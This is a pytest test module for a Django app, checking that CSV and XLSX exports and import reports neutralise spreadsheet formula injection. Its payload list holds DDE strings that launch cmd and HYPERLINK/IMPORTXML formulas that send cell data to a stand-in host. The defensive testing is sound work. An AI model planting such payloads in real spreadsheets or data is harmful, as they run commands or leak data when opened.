"""CSV/XLSX formula injection: text a spreadsheet would run (`=`, `+`, `-`, `@`, tab, CR;
DDE and HYPERLINK payloads) planted in records and in imported files comes out of
exports and import reports guarded with a leading `'` — through the pages and the API —
and XLSX files hold no formula cells at all."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from rapport.dataio.tests.export_helpers import body_of, grant_export
from rapport.dataio.tests.importhelpers import import_rows

from .attacks import SURFACES, api, browser, entities, plant

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?d="&A2,"Click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML("https://evil.example","//a")',
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _cells_csv(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _cells_xlsx(data: bytes) -> list:
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(data))  # not data_only: formulas would show as such
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula cell {cell.coordinate}: {cell.value}"
                cells.append(cell.value)
    return cells


def assert_guarded(cells, where: str) -> None:
    """No text cell starts a formula unless it is a plain number or an E.164 phone; every
    planted payload is present, guarded."""
    from rapport.dataio.cells import _E164, _NUMBER

    texts = [c for c in cells if isinstance(c, str)]
    for text in texts:
        if text.startswith(DANGEROUS):
            assert _E164.match(text) or _NUMBER.match(text), (where, text)
    joined = "\n".join(texts)
    assert any(text.startswith("'=") for text in texts), where
    for payload in PAYLOADS:
        if not payload.startswith(("\t", "\r")):  # names are stripped of those on save
            assert "'" + payload in joined, (where, payload)


@pytest.fixture
def planted(alice):
    grant_export(alice)
    for entity in entities():
        for payload in PAYLOADS:
            plant(entity, alice, payload)


def _export(surface, user, entity, fmt: str) -> bytes:
    if surface == "html":
        response = browser(user).get(reverse("dataio:export", args=[entity.key]), {"format": fmt})
        assert response.status_code == 200, response.status_code
        return body_of(response)
    client = api(user)
    response = client.post("/exports", {"entity": entity.key, "format": fmt})
    assert response.status_code == 201, response.content
    response = client.get(f"/exports/{response.json()['id']}/file")
    assert response.status_code == 200
    return body_of(response)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("surface", SURFACES)
def test_formula_injection_in_exports_is_neutralised(surface, fmt, planted, alice):
    for entity in entities():
        data = _export(surface, alice, entity, fmt)
        cells = _cells_csv(data) if fmt == "csv" else _cells_xlsx(data)
        assert_guarded(cells, f"{entity.key} {fmt} via {surface}")


@pytest.mark.parametrize("surface", SURFACES)
def test_formula_injection_in_the_import_report_is_neutralised(surface, alice):
    """The report repeats the file's own cells (and headers): a poisoned file must not
    turn into a poisoned report for whoever opens it."""
    rows = [["First name", "Last name", "Notes", PAYLOADS[0]]]
    rows += [[p, "Formula", p, p] for p in PAYLOADS]
    rows += [["", "", p, p] for p in PAYLOADS[:2]]  # rejected rows: no name, no email
    job = import_rows(alice, rows)
    if surface == "html":
        response = browser(alice).get(reverse("dataio:import_report", args=[job.pk]))
    else:
        response = api(alice).get(f"/imports/{job.pk}/report.csv")
    assert response.status_code == 200
    assert_guarded(_cells_csv(body_of(response)), f"import report via {surface}")


def test_formula_injection_guard_round_trips_through_import(alice):
    """The importer strips the guard, so a guarded export imports back as the text."""
    from rapport.contacts.models import Person

    rows = [["First name", "Last name"], ["'" + PAYLOADS[1], "Roundtrip"]]
    job = import_rows(alice, rows)
    assert job.created_count == 1
    assert Person.objects.get(last_name="Roundtrip").first_name == PAYLOADS[1]
